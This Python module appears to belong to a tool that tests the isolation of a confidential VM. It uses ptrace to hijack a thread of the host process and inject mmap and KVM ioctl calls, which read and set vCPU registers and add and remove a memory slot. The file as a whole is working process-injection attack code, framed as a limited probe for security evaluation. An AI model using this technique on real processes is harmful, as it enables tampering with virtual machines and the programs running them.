"""ptrace: calls made in the host process by force, to command its virtual machine from inside: KVM refuses its descriptors
to other processes, but an administrator can make the process itself call.

What is reported is what KVM did, not what could follow from it: registers of a vCPU read and set, a memory slot of the
attacker's added to the Keep and taken away again. No memory is read this way here.
"""
import ctypes
import os
import struct

from process import Impossible, Refused, mappings

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

# <sys/ptrace.h>
SINGLESTEP, GETREGS, SETREGS, DETACH, SEIZE, INTERRUPT = 9, 12, 13, 17, 0x4206, 0x4207
WALL = 0x40000000
# struct user_regs_struct of <sys/user.h>: 27 words
FIELDS = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()
MMAP, IOCTL = 9, 16
# <linux/kvm.h>
GET_REGS, SET_REGS, SET_USER_MEMORY_REGION = 0x8090AE81, 0x4090AE82, 0x4020AE46
SYSCALL = b"\x0f\x05"
SPARE_SLOT, SPARE_ADDRESS = 400, 0x3F_0000_0000


class Registers(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in FIELDS]


class Thread:
    """A thread of the victim, stopped; goes on as if nothing had been when the block ends."""

    def __init__(self, pid, tid):
        self.pid, self.tid = pid, tid

    def __enter__(self):
        if libc.ptrace(SEIZE, self.tid, None, None) != 0:
            raise Refused(f"ptrace: {os.strerror(ctypes.get_errno())}")
        libc.ptrace(INTERRUPT, self.tid, None, None)
        os.waitpid(self.tid, WALL)
        self.saved = self._registers()
        self.gate = _syscall_instruction(self.pid)
        return self

    def __exit__(self, *_):
        libc.ptrace(SETREGS, self.tid, None, ctypes.addressof(self.saved))
        libc.ptrace(DETACH, self.tid, None, None)

    def _registers(self):
        registers = Registers()
        if libc.ptrace(GETREGS, self.tid, None, ctypes.addressof(registers)) != 0:
            raise Refused("the thread is gone")
        return registers

    def call(self, number, *arguments):
        """A system call in the victim; its answer."""
        registers = Registers.from_buffer_copy(self.saved)
        registers.rip, registers.rax, registers.orig_rax = self.gate, number, 2**64 - 1
        for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), arguments):
            setattr(registers, name, value % 2**64)
        libc.ptrace(SETREGS, self.tid, None, ctypes.addressof(registers))
        libc.ptrace(SINGLESTEP, self.tid, None, None)
        _, status = os.waitpid(self.tid, WALL)
        if not os.WIFSTOPPED(status) or os.WSTOPSIG(status) == 31:
            raise Refused("its system-call filter ended the Keep: nothing was read")
        return ctypes.c_longlong(self._registers().rax).value


def _syscall_instruction(pid):
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for mapping in mappings(pid):
            if "x" not in mapping.rights:
                continue
            try:
                memory.seek(mapping.start)
                at = memory.read(mapping.end - mapping.start).find(SYSCALL)
            except OSError:
                continue
            if at >= 0:
                return mapping.start + at
    raise Refused("no system call instruction in the process")


def _descriptors(pid, what):
    for number in map(int, os.listdir(f"/proc/{pid}/fd")):
        try:
            if what in os.readlink(f"/proc/{pid}/fd/{number}"):
                yield number
        except OSError:
            continue


def _memory(pid):
    return open(f"/proc/{pid}/mem", "r+b", buffering=0)


def _registers_of_a_vcpu(thread, vcpus, page):
    """Reads and sets the registers of the first vCPU that this thread reaches; where it stands."""
    for vcpu in vcpus:
        if thread.call(IOCTL, vcpu, GET_REGS, page) != 0:
            continue
        with _memory(thread.pid) as memory:
            memory.seek(page)
            rip = struct.unpack_from("<18Q", memory.read(144))[16]
        if thread.call(IOCTL, vcpu, SET_REGS, page) == 0:
            return f"vCPU registers read and set (at {rip:#x})"
    return None


def _slot(thread, machines, page):
    """Adds a slot of memory to the machine, and takes it away."""
    for machine in machines:
        for size in (4096, 0):
            region = struct.pack("<IIQQQ", SPARE_SLOT, 0, SPARE_ADDRESS, size, page + 4096)
            with _memory(thread.pid) as memory:
                memory.seek(page)
                memory.write(region)
            if thread.call(IOCTL, machine, SET_USER_MEMORY_REGION, page) != 0:
                break
        else:
            return "memory slot added"
    return None


def command(pid):
    """What KVM did for calls made by force in the process: a list of words."""
    vcpus, machines = list(_descriptors(pid, "kvm-vcpu")), list(_descriptors(pid, "kvm-vm"))
    if not vcpus and not machines:
        raise Impossible("no virtual machine here")
    done = []
    # The thread that runs a vCPU holds it; the first thread is that of the first vCPU, or waits for it.
    with Thread(pid, pid) as thread:
        page = thread.call(MMAP, 0, 8192, 3, 0x22, -1, 0)
        if page < 0:
            raise Refused(f"mmap: {os.strerror(-page)}")
        done = [words for words in (_registers_of_a_vcpu(thread, vcpus, page), _slot(thread, machines, page)) if words]
    if not done:
        raise Refused("KVM refused every call")
    return done
